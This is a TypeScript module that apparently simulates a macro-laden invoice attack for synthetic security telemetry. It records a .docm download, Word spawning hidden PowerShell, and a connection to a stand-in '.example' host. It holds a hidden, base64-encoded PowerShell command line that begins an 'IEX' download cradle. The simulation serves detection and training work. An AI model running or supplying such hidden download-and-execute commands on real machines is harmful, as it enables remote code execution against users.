import { MINUTE_MS, SECOND_MS } from '../../../lib/duration.ts';
import { recordFile } from '../activity/files.ts';
import { type Attack, clientOf, markedDevice } from '../attack.ts';
import { initiatingColumns, processColumns } from '../columns.ts';
import { EDGE, office, powershell, profileOf } from '../programs.ts';
import { record } from '../scene.ts';

const COMMAND = 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAA==';

export const macroDocument: Attack = {
  name: 'Macro in an invoice',
  story: 'Somebody opens an invoice from the web; its macro starts hidden PowerShell, which fetches more.',
  atMinute: 8,
  play(scene, at) {
    const { device, person } = clientOf(scene, 6);
    const downloads = `${profileOf(device)}\\Downloads`;
    const word = office('WINWORD.EXE', `${downloads}\\invoice-20871.docm`);
    const shell = powershell(COMMAND);
    recordFile(scene, device, at - MINUTE_MS, {
      action: 'FileCreated',
      file: 'invoice-20871.docm',
      folder: downloads,
      by: EDGE,
      originUrl: 'https://files.roadbook-billing.example/invoice-20871.docm',
    });
    const { columns, mark } = markedDevice(scene, device);
    const created = {
      ...columns,
      ...processColumns(shell, person, scene.random),
      ...initiatingColumns(word, person, scene.random),
    };
    record(scene, 'DeviceProcessEvents', at, created, { delayMs: 90 * SECOND_MS });
    record(scene, 'DeviceNetworkEvents', at + 3 * SECOND_MS, {
      ...markedDevice(scene, device).columns,
      ActionType: 'ConnectionSuccess',
      RemoteIP: '192.0.2.66',
      RemotePort: 443,
      RemoteUrl: 'cdn.roadbook-billing.example',
      RemoteIPType: 'Public',
      LocalIP: device.localIp,
      Protocol: 'Tcp',
      ...initiatingColumns(shell, person, scene.random),
    });
    return [mark];
  },
};
